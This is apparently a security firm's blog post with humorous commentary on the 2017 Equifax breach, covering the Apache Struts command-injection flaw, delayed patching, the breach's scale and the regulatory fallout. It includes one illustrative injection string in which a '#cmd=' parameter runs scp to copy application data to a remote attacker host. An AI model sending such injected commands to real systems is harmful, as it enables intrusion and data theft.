As the dust begins to settle on one of the biggest and certainly most significant data breaches in history, sordid details are emerging aboutthe specifics.

Way back in March 2017 a bug was found in the Apache open-source model-view-controller (MVC) web application framework.  An MVC divides a (typically) web application into three parts (no prizes for guessing which three parts). Interactions between the parts can be tightly defined allowing code reuse and portability.

Anyhow the Apache MVC implementation is called Struts and the bug allowed attackers to execute arbitrary commands on target systems by simply putting a ‘#cmd=’ in a HTTP request, maybe something like ‘#cmd=scp /SecretApp/data/* [email protected]:/mwahaha/’. Simples.

Since Struts is embedded in a plethora of web applications, including the web interfaces for lots of infrastructure equipment like routers and err firewalls, this was a big deal and many long suffering, under appreciated and definitely underpaid admins toiled day and night to identify vulnerable systems and prioritise patching in line with the risk, for instance patching web facing systems first.

That is, or so it would appear, excluding the sysadmins or third party management at Equifax (hands up who thinks a third party will get the blame?) who apparently left critical systems unpatched. The rest, as they say is history.

Beginning in mid May (just the two months after the bug was announced), discovered in July (that must have been a buttock clenching discovery for the Equifax admins eh?) and announced to the world a further two months later, the data of 143 meeelion people was nicked, including 44 million UK customers. Whoops indeed.

We all know these things come in threes. Equifax’s systems have been crashing under the strain of users frantically trying to freeze their credit ratings, and according to the venerable Mr Brian Krebs an online portalfor Equifax’s Argentinian employees was discovered to be protected by a default username and password.

When will it end? Well the US Federal Trade Commission is looking into the whole debacle, so the jury is out, so to speak.

We have been discussing if this outbreak will force government intervention and regulation into sites and businesses that hold personal data, it is after all the job of a government to protect its citizens from harm, like violence, war and weather, isn’t it?

If you think you have been affected by the Equifax breach and you should probably assume you have been, there are some things you can do. They are summarised verynicely by the fine folk at Sophos here.

While we are on the subject of urgent patches, if you missed the regular Microsoft patches, they fixed a biggy this month that is being used in the wild. You know what to do, don’t Equifax it up.

If you would like to have a little cry about your credit details being stolen or talk about anythingrelated to information security, please contact us at: [email protected]or call 020 7517 3900.